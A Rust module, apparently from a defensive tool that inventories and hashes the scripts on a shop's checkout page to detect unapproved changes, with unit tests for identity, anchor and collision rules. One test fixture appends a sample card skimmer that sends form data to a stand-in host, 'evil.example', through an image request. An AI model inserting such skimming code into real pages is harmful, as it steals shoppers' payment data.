//! Turns a captured [`Snapshot`] into an [`Inventory`]: every script gets a stable identity and
//! its hashes, so that `compare` can match it against the approved baseline.
//!
//! # Identity rules
//!
//! An identity must stay the same for the same script across page loads and environments, and
//! must change when it is a different script. The rules:
//!
//! - **Page origin** is the origin of the snapshot's final URL (after redirects; the requested
//!   URL if there is none). A URL on the page's own origin is written `self:` + path (+ `?query`
//!   if any); any other URL is written absolute. Fragments are always dropped. This makes a
//!   baseline approved on production match staging.
//! - **Hosts**: the page's own host (`host[:port]` of the page origin) is written `self`;
//!   any other host as is.
//! - **Frame key**: the top-level document is `main`; any other frame is its document URL,
//!   written the same way but without query and fragment.
//! - **External, module and worker scripts with a URL**: the script URL as above; in a frame
//!   other than the main one, prefixed with `<frame key>|`.
//! - **`data:` URL**: `<frame key>|data|<first 16 hex of SHA-256 of the URL>`.
//!   **`blob:` URL** (random per load): `<frame key>|blob|<anchor>`.
//! - **Inline script** (and inline module): `<frame key>|inline|#<context>` when the element has
//!   a context (its `id`), else `<frame key>|inline|<anchor>`.
//! - **Event handler**: `<frame key>|handler|<context>` (e.g. `img#logo@onerror`), else
//!   `<frame key>|handler|<anchor>`.
//! - **eval / new Function / string timer**: `<frame key>|eval|<initiator or unknown>|<anchor>`,
//!   the initiator URL written as above.
//! - **Anchor**: the first 10 hex of the SHA-256 of the first 64 characters of the code's
//!   skeleton, where the skeleton is the code with string literals (`'…'`, `"…"`, `` `…` ``)
//!   replaced by `S`, numeric literals by `0`, JSON-like data (`{…}`/`[…]` of literals only)
//!   by `D`, and all whitespace and comments removed. So the
//!   anchor survives edits to data literals and appended statements, but not a change at the
//!   start of the code (for code whose skeleton is shorter than 64 characters, any change to
//!   the skeleton).
//! - **Collisions**: when two scripts in one snapshot get the same identity with different
//!   content, all but the first get `#2`, `#3`, …, ordered by the hash of their full skeleton
//!   (then SHA-256), not by document order, so that tags the page inserts in random order
//!   keep their numbers; identical duplicates (same identity and SHA-256) are listed once.
//!   `compare` also matches colliding scripts as a group, so a renumbering is never a change.
//!
//! A `|` inside a frame key or initiator is written `%7C`, so the frame key is always the part
//! of an identity before the first `|` for inline, handler, eval and data scripts.

pub mod normalize;

use crate::model::{Inventory, RawScript, Script, ScriptKind, Snapshot};
use base64::Engine as _;
use sha2::{Digest, Sha256, Sha384};
use std::collections::HashMap;
use url::{Origin, Url};

/// Number of skeleton characters hashed into an anchor.
const ANCHOR_SKELETON_CHARS: usize = 64;

/// Builds the inventory of one page load: identities, hashes, scripts sorted by id.
pub fn inventory(snapshot: &Snapshot) -> Inventory {
    inventory_with(snapshot, &[])
}

/// [`inventory`], with the page's `ignore_query` parameters left out of script identities
/// (besides the cache-busters recognised by their value, see [`strip_volatile_query`]).
pub fn inventory_with(snapshot: &Snapshot, ignore_query: &[String]) -> Inventory {
    let origin = page_origin(snapshot);
    // base identity → the distinct scripts (by content hash) that got it.
    let mut groups: HashMap<String, Vec<(&RawScript, String)>> = HashMap::new();
    for raw in &snapshot.scripts {
        let base = identity_with_origin(raw, &origin, ignore_query);
        let sha = sha256_hex(&raw.source);
        let used = groups.entry(base).or_default();
        if !used.iter().any(|(_, s)| *s == sha) {
            used.push((raw, sha));
        }
    }
    let mut scripts = Vec::new();
    for (base, mut members) in groups {
        // Colliding scripts are numbered by their skeleton (stable under data edits), not by
        // document order, so randomly ordered tags keep their numbers from load to load.
        if members.len() > 1 {
            members.sort_by_cached_key(|(raw, sha)| (sha256_hex(&skeleton(&raw.source)), sha.clone()));
        }
        for (n, (raw, sha)) in members.into_iter().enumerate() {
            let id = if n == 0 { base.clone() } else { format!("{base}#{}", n + 1) };
            scripts.push(script_of(raw, id, sha));
        }
    }
    scripts.sort_by(|a, b| a.id.cmp(&b.id));
    Inventory {
        url: snapshot.url.clone(),
        final_url: snapshot.final_url.clone(),
        status: snapshot.status,
        headers: snapshot.headers.clone(),
        scripts,
        hosts: relative_hosts(snapshot),
        payment_fields: snapshot.payment_fields.clone(),
    }
}

/// The host a page's own requests go to is written `self` (like `self:` script URLs), so that
/// the same page on staging and production contacts the same hosts; other hosts stay as they
/// are. See [`SELF_HOST`].
fn relative_hosts(snapshot: &Snapshot) -> Vec<String> {
    let page = if snapshot.final_url.is_empty() { &snapshot.url } else { &snapshot.final_url };
    let own = host_of(page);
    let mut hosts: Vec<String> = snapshot
        .hosts
        .iter()
        .map(|h| if Some(h) == own.as_ref() { SELF_HOST.to_string() } else { h.clone() })
        .collect();
    hosts.sort();
    hosts.dedup();
    hosts
}

/// How the page's own host (`host[:port]` of its final URL) is written in inventories,
/// baselines and `new_host` findings.
pub const SELF_HOST: &str = "self";

fn script_of(raw: &RawScript, id: String, sha: String) -> Script {
    Script {
        id,
        kind: raw.kind,
        url: raw.url.clone(),
        frame_url: raw.frame_url.clone(),
        sha256: sha,
        sri: sri_sha384(&raw.source),
        bytes: raw.source.len() as u64,
        initiator: raw.initiator.clone(),
        source: raw.source.clone(),
    }
}

/// Lower-case hex SHA-256 of the UTF-8 bytes of `s`.
pub fn sha256_hex(s: &str) -> String {
    sha256_hex_bytes(s.as_bytes())
}

/// Lower-case hex SHA-256 of `bytes` (for files that need not be UTF-8).
pub fn sha256_hex_bytes(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// Subresource-integrity value for `s`: `sha384-` + standard base64 of its SHA-384, exactly
/// what a browser expects in an `integrity=` attribute.
pub fn sri_sha384(s: &str) -> String {
    let digest = Sha384::digest(s.as_bytes());
    format!("sha384-{}", base64::engine::general_purpose::STANDARD.encode(digest))
}

/// `host`, or `host:port` when the port is not the scheme's default. `None` for URLs without
/// a host (`data:`, `blob:`, `about:`) or that do not parse.
pub fn host_of(url: &str) -> Option<String> {
    let parsed = Url::parse(url).ok()?;
    let host = parsed.host_str()?;
    if host.is_empty() {
        return None;
    }
    // `Url::port` is already `None` when the port is the scheme's default.
    Some(match parsed.port() {
        Some(port) => format!("{host}:{port}"),
        None => host.to_string(),
    })
}

/// Identity of one script on a page whose URL (after redirects) is `page_url`.
/// See the module documentation for the rules.
pub fn script_identity(raw: &RawScript, page_url: &str) -> String {
    script_identity_with(raw, page_url, &[])
}

/// [`script_identity`] with the page's `ignore_query` (what [`inventory_with`] uses), so that
/// other stages name a script exactly as the inventory does.
pub fn script_identity_with(raw: &RawScript, page_url: &str, ignore_query: &[String]) -> String {
    identity_with_origin(raw, &origin_of(page_url), ignore_query)
}

/// The anchor of a piece of code: first 10 hex of the SHA-256 of the first 64 characters of its
/// skeleton (see the module documentation).
pub fn anchor(code: &str) -> String {
    let skel: String = skeleton(code).chars().take(ANCHOR_SKELETON_CHARS).collect();
    sha256_hex(&skel)[..10].to_string()
}

fn page_origin(snapshot: &Snapshot) -> Origin {
    let page = if snapshot.final_url.is_empty() { &snapshot.url } else { &snapshot.final_url };
    origin_of(page)
}

fn origin_of(url: &str) -> Origin {
    match Url::parse(url) {
        Ok(u) => u.origin(),
        // An opaque origin never equals another origin, so every URL is written absolute.
        Err(_) => Url::parse("data:,").expect("static URL").origin(),
    }
}

fn identity_with_origin(raw: &RawScript, origin: &Origin, ignore_query: &[String]) -> String {
    let frame = frame_key(raw, origin);
    match raw.kind {
        ScriptKind::Eval => {
            let initiator = raw
                .initiator
                .as_deref()
                .map(|i| strip_volatile_query(&canonical_initiator(i, origin), ignore_query))
                .unwrap_or_else(|| "unknown".to_string());
            format!("{frame}|eval|{initiator}|{}", anchor(&raw.source))
        }
        ScriptKind::Handler => match &raw.context {
            Some(ctx) => format!("{frame}|handler|{ctx}"),
            None => format!("{frame}|handler|{}", anchor(&raw.source)),
        },
        _ => match raw.url.as_deref() {
            Some(u) if has_scheme(u, "data") => {
                format!("{frame}|data|{}", &sha256_hex(u)[..16])
            }
            Some(u) if has_scheme(u, "blob") => {
                format!("{frame}|blob|{}", anchor(&raw.source))
            }
            Some(u) if !u.is_empty() => {
                let id = strip_volatile_query(&canonical_url(u, origin, true), ignore_query);
                if raw.main_frame {
                    id
                } else {
                    format!("{frame}|{id}")
                }
            }
            // Inline scripts and inline modules (no URL).
            _ => match &raw.context {
                Some(ctx) => format!("{frame}|inline|#{ctx}"),
                None => format!("{frame}|inline|{}", anchor(&raw.source)),
            },
        },
    }
}

fn has_scheme(url: &str, scheme: &str) -> bool {
    url.len() > scheme.len()
        && url.as_bytes()[scheme.len()] == b':'
        && url[..scheme.len()].eq_ignore_ascii_case(scheme)
}

fn frame_key(raw: &RawScript, origin: &Origin) -> String {
    if raw.main_frame {
        "main".to_string()
    } else {
        canonical_url(&raw.frame_url, origin, false).replace('|', "%7C")
    }
}

/// Initiators are URLs or pseudo-URLs such as `inline:<frame url>`.
fn canonical_initiator(initiator: &str, origin: &Origin) -> String {
    let written = match initiator.strip_prefix("inline:") {
        Some(frame) => format!("inline:{}", canonical_url(frame, origin, false)),
        None => canonical_url(initiator, origin, true),
    };
    written.replace('|', "%7C")
}

/// Writes `url` as `self:/path?query` on the page origin, else absolute; never a fragment.
fn canonical_url(url: &str, origin: &Origin, keep_query: bool) -> String {
    let Ok(mut parsed) = Url::parse(url) else {
        // Not a URL we understand: keep it, minus the fragment.
        return url.split('#').next().unwrap_or(url).to_string();
    };
    parsed.set_fragment(None);
    if !keep_query {
        parsed.set_query(None);
    }
    if origin.is_tuple() && parsed.origin() == *origin {
        let mut out = format!("self:{}", parsed.path());
        if let Some(q) = parsed.query().filter(|q| !q.is_empty()) {
            out.push('?');
            out.push_str(q);
        }
        out
    } else {
        parsed.to_string()
    }
}

/// Drops cache-busting parameters from the query of a written URL, so that they do not make a
/// new identity (the content is still hashed and compared): every parameter named in
/// `ignore` (`"*"` = all), and any whose value looks volatile — a timestamp (9+ digits), a
/// build hash (8+ hex digits with a digit and a letter) or a random token (16+ letters,
/// digits, `-` and `_`, with both letters and digits). A query left empty is dropped.
pub fn strip_volatile_query(written: &str, ignore: &[String]) -> String {
    let Some((head, query)) = written.split_once('?') else { return written.to_string() };
    let all = ignore.iter().any(|i| i == "*");
    let kept: Vec<&str> = query
        .split('&')
        .filter(|pair| {
            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
            !(all || ignore.iter().any(|i| i == name) || volatile_value(value))
        })
        .collect();
    if kept.is_empty() {
        head.to_string()
    } else {
        format!("{head}?{}", kept.join("&"))
    }
}

fn volatile_value(v: &str) -> bool {
    let digits = v.bytes().filter(u8::is_ascii_digit).count();
    let letters = v.bytes().filter(u8::is_ascii_alphabetic).count();
    let timestamp = v.len() >= 9 && digits == v.len();
    let hex = v.len() >= 8 && v.bytes().all(|b| b.is_ascii_hexdigit()) && digits > 0 && letters > 0;
    let token = v.len() >= 16
        && v.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        && digits > 0
        && letters > 0;
    timestamp || hex || token
}

/// The code with string literals → `S`, numeric literals → `0`, whitespace and comments removed,
/// and JSON-like data (`{…}` / `[…]` holding only literals, plain keys and such data) → `D`, so
/// that a cart with three items has the same skeleton as one with one.
///
/// A deliberately small scanner, not a JS lexer: regular-expression literals are not
/// recognised. It only has to be deterministic, and stable under edits to literals.
fn skeleton(code: &str) -> String {
    collapse_data(&literal_skeleton(code))
}

/// Replaces innermost `{…}` / `[…]` whose content is only data by `D`, until none is left.
fn collapse_data(skel: &str) -> String {
    use std::sync::OnceLock;
    static BRACKETS: OnceLock<regex::Regex> = OnceLock::new();
    static ITEM: OnceLock<regex::Regex> = OnceLock::new();
    let brackets = BRACKETS.get_or_init(|| regex::Regex::new(r"\{[^{}\[\]()]*\}|\[[^{}\[\]()]*\]").expect("static regex"));
    let item = ITEM.get_or_init(|| {
        regex::Regex::new(r"^(?:(?:S|0|[A-Za-z_$][\w$]*):)?-?(?:S|0|D|true|false|null)$").expect("static regex")
    });
    let mut out = skel.to_string();
    loop {
        let next = brackets.replace_all(&out, |c: &regex::Captures| {
            let m = &c[0];
            let inner = &m[1..m.len() - 1];
            let pure = inner.is_empty() || inner.trim_end_matches(',').split(',').all(|i| item.is_match(i));
            if pure { "D".to_string() } else { m.to_string() }
        });
        if next == out {
            return out;
        }
        out = next.into_owned();
    }
}

fn literal_skeleton(code: &str) -> String {
    let chars: Vec<char> = code.chars().collect();
    let mut out = String::with_capacity(code.len().min(4096));
    // Whether the previous source character continues an identifier, so that the digits in
    // `a1` are not taken for a number.
    let mut in_ident = false;
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c.is_whitespace() {
            in_ident = false;
            i += 1;
        } else if c == '/' && chars.get(i + 1) == Some(&'/') {
            while i < chars.len() && chars[i] != '\n' {
                i += 1;
            }
            in_ident = false;
        } else if c == '/' && chars.get(i + 1) == Some(&'*') {
            i += 2;
            while i < chars.len() && !(chars[i] == '*' && chars.get(i + 1) == Some(&'/')) {
                i += 1;
            }
            i += 2;
            in_ident = false;
        } else if c == '\'' || c == '"' || c == '`' {
            i += 1;
            while i < chars.len() && chars[i] != c {
                // Skip the escaped character, which may be the quote itself.
                i += if chars[i] == '\\' { 2 } else { 1 };
            }
            i += 1;
            out.push('S');
            in_ident = false;
        } else if c == '\\' {
            // An escape outside a string (inside a regex, say): keep the pair so that `\/` is
            // not read as the start of a comment.
            out.push(c);
            if let Some(&next) = chars.get(i + 1) {
                out.push(next);
            }
            i += 2;
            in_ident = false;
        } else if !in_ident
            && (c.is_ascii_digit()
                || (c == '.' && chars.get(i + 1).is_some_and(|n| n.is_ascii_digit())))
        {
            // 12, 1.5, .5, 0xFF, 1_000, 10n, 1e5 (a signed exponent leaves `-0`, harmlessly).
            while i < chars.len() && (chars[i].is_ascii_alphanumeric() || chars[i] == '.' || chars[i] == '_') {
                i += 1;
            }
            out.push('0');
            in_ident = false;
        } else {
            out.push(c);
            in_ident = c.is_alphanumeric() || c == '_' || c == '$';
            i += 1;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::PaymentField;

    fn raw(kind: ScriptKind, url: Option<&str>, source: &str) -> RawScript {
        RawScript {
            kind,
            url: url.map(str::to_string),
            frame_url: "https://shop.example/checkout".to_string(),
            main_frame: true,
            source: source.to_string(),
            initiator: None,
            context: None,
            position: None,
        }
    }

    fn in_frame(mut r: RawScript, frame: &str) -> RawScript {
        r.main_frame = false;
        r.frame_url = frame.to_string();
        r
    }

    fn snapshot(scripts: Vec<RawScript>) -> Snapshot {
        Snapshot {
            url: "https://shop.example/checkout".to_string(),
            final_url: "https://shop.example/checkout?step=2".to_string(),
            status: 200,
            scripts,
            ..Snapshot::default()
        }
    }

    const PAGE: &str = "https://shop.example/checkout";
    // Skeleton longer than 64 characters, so appended code falls outside the anchor.
    const LONG: &str = "window.dataLayer = window.dataLayer || []; function gtag() { dataLayer.push(arguments); } gtag('js', new Date(2024, 1, 1)); gtag('config', 'G-ABC123');";

    #[test]
    fn known_hash_vectors() {
        assert_eq!(sha256_hex(""), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        assert_eq!(sha256_hex("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
        assert_eq!(
            sri_sha384("alert('Hello, world.');"),
            "sha384-H8BRh8j48O9oYatfu5AZzq6A9RINhZO5H16dQZngK7T62em8MUt1FLm52t+eX6xO"
        );
    }

    #[test]
    fn host_of_keeps_only_non_default_ports() {
        assert_eq!(host_of("https://shop.example/x").as_deref(), Some("shop.example"));
        assert_eq!(host_of("https://shop.example:443/x").as_deref(), Some("shop.example"));
        assert_eq!(host_of("http://localhost:8080/x").as_deref(), Some("localhost:8080"));
        assert_eq!(host_of("https://CDN.Example:8443").as_deref(), Some("cdn.example:8443"));
        assert_eq!(host_of("data:text/javascript,1"), None);
        assert_eq!(host_of("not a url"), None);
    }

    #[test]
    fn same_origin_is_self_and_third_party_is_absolute() {
        let own = raw(ScriptKind::External, Some("https://shop.example/static/app.js?v=3#x"), "a()");
        assert_eq!(script_identity(&own, PAGE), "self:/static/app.js?v=3");
        let other = raw(ScriptKind::External, Some("https://cdn.example/lib.js#frag"), "b()");
        assert_eq!(script_identity(&other, PAGE), "https://cdn.example/lib.js");
        // Another port is another origin.
        let port = raw(ScriptKind::External, Some("https://shop.example:8443/a.js"), "c()");
        assert_eq!(script_identity(&port, PAGE), "https://shop.example:8443/a.js");
        // The same script on staging gets the same identity.
        assert_eq!(
            script_identity(&raw(ScriptKind::External, Some("https://staging.shop.example/static/app.js?v=3"), ""),
                "https://staging.shop.example/checkout"),
            "self:/static/app.js?v=3"
        );
    }

    #[test]
    fn iframe_scripts_are_prefixed_with_the_frame_key() {
        let ext = in_frame(raw(ScriptKind::External, Some("https://pay.example/sdk.js"), "x()"), "https://pay.example/frame?session=1#a");
        assert_eq!(script_identity(&ext, PAGE), "https://pay.example/frame|https://pay.example/sdk.js");
        let inl = in_frame(raw(ScriptKind::Inline, None, "x()"), "https://shop.example/embed?token=9");
        assert_eq!(script_identity(&inl, PAGE), format!("self:/embed|inline|{}", anchor("x()")));
        let main = raw(ScriptKind::Inline, None, "x()");
        assert_eq!(script_identity(&main, PAGE), format!("main|inline|{}", anchor("x()")));
    }

    #[test]
    fn inline_handler_eval_data_blob_identities() {
        let mut inline = raw(ScriptKind::Inline, None, "var a = 1;");
        inline.context = Some("config".into());
        assert_eq!(script_identity(&inline, PAGE), "main|inline|#config");

        let mut handler = raw(ScriptKind::Handler, None, "this.src='x.png'");
        handler.context = Some("img#logo@onerror".into());
        assert_eq!(script_identity(&handler, PAGE), "main|handler|img#logo@onerror");
        handler.context = None;
        assert_eq!(script_identity(&handler, PAGE), format!("main|handler|{}", anchor("this.src='x.png'")));

        let mut eval = raw(ScriptKind::Eval, None, "go()");
        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|unknown|{}", anchor("go()")));
        eval.initiator = Some("https://shop.example/static/app.js#L1".into());
        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|self:/static/app.js|{}", anchor("go()")));
        eval.initiator = Some("inline:https://shop.example/checkout?x=1".into());
        assert_eq!(script_identity(&eval, PAGE), format!("main|eval|inline:self:/checkout|{}", anchor("go()")));

        let data_url = "data:text/javascript,alert(1)";
        let data = raw(ScriptKind::Data, Some(data_url), "alert(1)");
        assert_eq!(script_identity(&data, PAGE), format!("main|data|{}", &sha256_hex(data_url)[..16]));

        let blob = raw(ScriptKind::Data, Some("blob:https://shop.example/0b7c-11"), "steal()");
        assert_eq!(script_identity(&blob, PAGE), format!("main|blob|{}", anchor("steal()")));
    }

    #[test]
    fn anchor_ignores_literals_whitespace_and_comments() {
        let a = anchor("var key = 'pk_live_1';\nvar n = 42; // note\nsend(key, n);");
        let b = anchor("var key=\"pk_live_2\";/* changed */var n=7.5;send(key,n);");
        assert_eq!(a, b);
        assert_eq!(a.len(), 10);
        // Identifiers with digits are not numbers.
        assert_ne!(anchor("a1();"), anchor("a2();"));
        assert_eq!(skeleton("x = `t${1}` + 0x1F + .5; y = a1"), "x=S+0+0;y=a1");
    }

    #[test]
    fn anchor_survives_appended_statement_but_not_a_new_first_statement() {
        let appended = format!("{LONG}\ndocument.forms[0].addEventListener('submit', function () {{ new Image().src = 'https://evil.example/c?d=' + btoa(x); }});");
        assert_eq!(anchor(LONG), anchor(&appended));
        let prepended = format!("var s=document.createElement('script');{LONG}");
        assert_ne!(anchor(LONG), anchor(&prepended));
        let edited = LONG.replacen("window.dataLayer = window.dataLayer", "window.dl = window.dl", 1);
        assert_ne!(anchor(LONG), anchor(&edited));
    }

    #[test]
    fn inventory_hashes_sorts_and_copies_page_data() {
        let mut snap = snapshot(vec![
            raw(ScriptKind::External, Some("https://shop.example/z.js"), "z()"),
            raw(ScriptKind::External, Some("https://cdn.example/a.js"), "abc"),
        ]);
        snap.hosts = vec!["cdn.example".into(), "shop.example".into()];
        snap.headers.insert("x-frame-options".into(), "DENY".into());
        snap.payment_fields.push(PaymentField {
            frame_url: PAGE.into(),
            selector: "#cc".into(),
            reason: "autocomplete=cc-number".into(),
        });
        let inv = inventory(&snap);
        let ids: Vec<&str> = inv.scripts.iter().map(|s| s.id.as_str()).collect();
        assert_eq!(ids, ["https://cdn.example/a.js", "self:/z.js"]);
        let a = &inv.scripts[0];
        assert_eq!(a.sha256, sha256_hex("abc"));
        assert_eq!(a.sri, sri_sha384("abc"));
        assert_eq!(a.bytes, 3);
        assert_eq!(a.source, "abc");
        // The page's own host is written `self`, third-party hosts stay absolute.
        assert_eq!(inv.hosts, ["cdn.example", SELF_HOST]);
        assert_eq!(inv.headers, snap.headers);
        assert_eq!(inv.payment_fields, snap.payment_fields);
        assert_eq!(inv.status, 200);
    }

    #[test]
    fn collisions_are_numbered_independently_of_document_order_and_duplicates_collapse() {
        let first = format!("{LONG} one();");
        let second = format!("{LONG} two('x');");
        let ids_of = |order: Vec<&String>| {
            let mut scripts: Vec<RawScript> = order.into_iter().map(|s| raw(ScriptKind::Inline, None, s)).collect();
            scripts.push(raw(ScriptKind::External, Some("https://cdn.example/a.js"), "same"));
            scripts.push(raw(ScriptKind::External, Some("https://cdn.example/a.js"), "same"));
            inventory(&snapshot(scripts)).scripts.into_iter().map(|s| (s.id, s.source)).collect::<Vec<_>>()
        };
        let a = ids_of(vec![&first, &second, &first]);
        let b = ids_of(vec![&second, &first]);
        assert_eq!(a, b);
        let base = format!("main|inline|{}", anchor(LONG));
        let ids: Vec<&str> = a.iter().map(|(id, _)| id.as_str()).collect();
        assert_eq!(ids, ["https://cdn.example/a.js", base.as_str(), format!("{base}#2").as_str()]);
        // Data edits do not renumber: the order comes from the skeleton.
        let c = ids_of(vec![&second.replace("'x'", "'y'"), &first]);
        assert_eq!(c.iter().map(|(id, s)| (id.as_str(), s.contains("two"))).collect::<Vec<_>>(), a.iter().map(|(id, s)| (id.as_str(), s.contains("two"))).collect::<Vec<_>>());
    }

    #[test]
    fn final_url_falls_back_to_requested_url() {
        let mut snap = snapshot(vec![raw(ScriptKind::External, Some("https://shop.example/a.js"), "")]);
        snap.final_url.clear();
        assert_eq!(inventory(&snap).scripts[0].id, "self:/a.js");
    }

    #[test]
    fn cache_busting_query_parameters_are_not_part_of_the_identity() {
        let ids = |url: &str, ignore: &[String]| {
            let snap = snapshot(vec![raw(ScriptKind::External, Some(url), "x()")]);
            inventory_with(&snap, ignore).scripts[0].id.clone()
        };
        assert_eq!(ids("https://shop.example/app.js?v=1718000000123", &[]), "self:/app.js");
        assert_eq!(ids("https://shop.example/app.js?_=1718000000&lang=en", &[]), "self:/app.js?lang=en");
        assert_eq!(ids("https://cdn.example/a.js?build=8f3a9b2c", &[]), "https://cdn.example/a.js");
        assert_eq!(ids("https://cdn.example/a.js?t=Zk3mQ9xT2pLw8vBn", &[]), "https://cdn.example/a.js");
        // Short, stable values stay unless configured.
        assert_eq!(ids("https://shop.example/app.js?v=3", &[]), "self:/app.js?v=3");
        assert_eq!(ids("https://shop.example/app.js?v=3&id=TW-HP4821", &["v".to_string()]), "self:/app.js?id=TW-HP4821");
        assert_eq!(ids("https://shop.example/app.js?v=3&id=TW-HP4821", &["*".to_string()]), "self:/app.js");
        // The URL itself is kept as loaded.
        let snap = snapshot(vec![raw(ScriptKind::External, Some("https://shop.example/app.js?v=1718000000123"), "x()")]);
        assert_eq!(inventory(&snap).scripts[0].url.as_deref(), Some("https://shop.example/app.js?v=1718000000123"));
    }

    #[test]
    fn json_like_data_collapses_in_the_skeleton() {
        assert_eq!(skeleton("window.cart = {\"id\":\"c1\",\"items\":[{\"sku\":\"A\",\"qty\":1}]}; go();"), "window.cart=D;go();");
        assert_eq!(anchor("window.cart = {\"items\":[{\"sku\":\"A\",\"qty\":1}]}; render(window.cart, document.getElementById('total'));"),
                   anchor("window.cart = {\"items\":[{\"sku\":\"A\",\"qty\":1},{\"sku\":\"B\",\"qty\":-2,\"gift\":true}]}; render(window.cart, document.getElementById('total'));"));
        // Code inside braces is not data.
        assert_eq!(skeleton("if(a){go(1)}var o={f:g};"), "if(a){go(0)}varo={f:g};");
    }
}
